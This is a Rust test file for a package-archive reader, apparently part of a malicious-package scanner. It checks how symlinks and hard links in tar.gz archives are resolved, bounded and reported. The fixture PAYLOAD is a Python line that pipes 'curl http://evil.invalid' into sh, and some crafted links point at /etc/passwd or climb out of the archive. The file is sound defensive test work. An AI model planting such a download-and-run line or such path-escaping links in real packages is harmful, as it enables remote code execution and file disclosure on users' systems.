//! Link members, crafted here: each link that leads to a member inside the archive is read
//! as that member's bytes under the link's name (as pip's extraction writes it); links
//! that loop, climb out or point at absolute paths give nothing but their report.

use std::io::Write;

use malpi_archive::{Limits, Member, Problem, read_archive};

const PAYLOAD: &[u8] = b"import os\nos.system('curl http://evil.invalid | sh')\n";

fn header(name: &str, kind: tar::EntryType, size: u64, link: Option<&str>) -> tar::Header {
    let mut h = tar::Header::new_gnu();
    h.set_path(name).unwrap();
    h.set_entry_type(kind);
    h.set_size(size);
    h.set_mode(0o644);
    if let Some(target) = link {
        h.set_link_name(target).unwrap();
    }
    h.set_cksum();
    h
}

/// A tar.gz of regular `files` and `(path, target, hard)` links, links first or last.
fn tar_gz(files: &[(&str, &[u8])], links: &[(&str, &str, bool)], links_first: bool) -> Vec<u8> {
    let mut b = tar::Builder::new(Vec::new());
    let add_links = |b: &mut tar::Builder<Vec<u8>>| {
        for (path, target, hard) in links {
            let kind = if *hard {
                tar::EntryType::Link
            } else {
                tar::EntryType::Symlink
            };
            b.append(&header(path, kind, 0, Some(target)), &[][..])
                .unwrap();
        }
    };
    if links_first {
        add_links(&mut b);
    }
    for (path, data) in files {
        b.append(
            &header(path, tar::EntryType::Regular, data.len() as u64, None),
            *data,
        )
        .unwrap();
    }
    if !links_first {
        add_links(&mut b);
    }
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    e.write_all(&b.into_inner().unwrap()).unwrap();
    e.finish().unwrap()
}

fn py_only(path: &str) -> bool {
    path.ends_with(".py")
}

fn member<'a>(members: &'a [Member], path: &str) -> Option<&'a Member> {
    members.iter().find(|m| m.path == path)
}

#[test]
fn setup_py_linked_to_a_payload_member_is_read_under_its_name() {
    // The payload's own name is not code (only its first bytes would be kept), and big
    // enough to need the second pass; hard and symbolic, before and after the target.
    let big: Vec<u8> = [PAYLOAD, &b"# pad\n".repeat(2000)].concat();
    for (hard, links_first) in [(true, false), (false, false), (false, true)] {
        let target = if hard {
            "pkg-1.0/data/blob.txt"
        } else {
            "data/blob.txt"
        };
        let bytes = tar_gz(
            &[
                ("pkg-1.0/data/blob.txt", &big),
                ("pkg-1.0/PKG-INFO", b"Name: pkg\nVersion: 1.0\n"),
            ],
            &[("pkg-1.0/setup.py", target, hard)],
            links_first,
        );
        let a = read_archive(&bytes, &Limits::default(), &py_only).unwrap();
        let setup = member(&a.members, "pkg-1.0/setup.py")
            .unwrap_or_else(|| panic!("hard={hard} first={links_first}: {:?}", a.members));
        assert_eq!(setup.data, big, "hard={hard} first={links_first}");
        assert!(setup.complete);
        // The link is still reported.
        assert!(
            a.problems
                .iter()
                .any(|p| matches!(p, Problem::Link { path, .. } if path == "pkg-1.0/setup.py"))
        );
        // The target itself keeps only its head (its name is not code).
        assert!(
            member(&a.members, "pkg-1.0/data/blob.txt")
                .unwrap()
                .data
                .len()
                <= 512
        );
    }
}

#[test]
fn chains_and_linked_folders_resolve_loops_and_escapes_do_not() {
    let bytes = tar_gz(
        &[
            ("p/real/payload.py", PAYLOAD),
            ("p/src/mod/__init__.py", PAYLOAD),
        ],
        &[
            ("p/setup.py", "hop1", false),
            ("p/hop1", "hop2", false),
            ("p/hop2", "real/payload.py", false),
            ("p/mod", "src/mod", false),
            ("p/loop_a.py", "loop_b.py", false),
            ("p/loop_b.py", "loop_a.py", false),
            ("p/out.py", "../../../etc/passwd", false),
            ("p/abs.py", "/etc/passwd", false),
            ("p/hard_out.py", "../outside.py", true),
            ("p/self", ".", false),
        ],
        false,
    );
    let a = read_archive(&bytes, &Limits::default(), &py_only).unwrap();
    assert_eq!(member(&a.members, "p/setup.py").unwrap().data, PAYLOAD);
    assert_eq!(
        member(&a.members, "p/mod/__init__.py").unwrap().data,
        PAYLOAD
    );
    // A link to its own folder stands for what the folder holds, once (no recursion).
    assert!(member(&a.members, "p/self/real/payload.py").is_some());
    assert!(!a.members.iter().any(|m| m.path.starts_with("p/self/self")));
    for gone in [
        "p/loop_a.py",
        "p/loop_b.py",
        "p/out.py",
        "p/abs.py",
        "p/hard_out.py",
    ] {
        assert!(member(&a.members, gone).is_none(), "{gone}");
        assert!(
            a.problems
                .iter()
                .any(|p| matches!(p, Problem::Link { path, .. } if path == gone)),
            "{gone}"
        );
    }
}

#[test]
fn many_links_stay_within_the_limits() {
    // 2,000 links to one big member: copies stop at the kept-bytes budget, members at the
    // member limit; the read ends quickly.
    let big = vec![b'#'; 64 << 10];
    let names: Vec<String> = (0..2000).map(|i| format!("p/l{i}.py")).collect();
    let links: Vec<(&str, &str, bool)> = names
        .iter()
        .map(|n| (n.as_str(), "big.py", false))
        .collect();
    let bytes = tar_gz(&[("p/big.py", &big)], &links, false);
    let limits = Limits {
        max_kept_bytes: 8 << 20,
        max_members: 1000,
        ..Limits::default()
    };
    let started = std::time::Instant::now();
    let a = read_archive(&bytes, &limits, &py_only).unwrap();
    assert!(a.members.len() <= 1000);
    let kept: usize = a.members.iter().map(|m| m.data.len()).sum();
    assert!(kept as u64 <= (8 << 20) + 1000 * 512, "{kept}");
    assert!(
        a.problems
            .iter()
            .any(|p| matches!(p, Problem::LimitTripped { .. }))
    );
    assert!(started.elapsed() < std::time::Duration::from_secs(5));
}
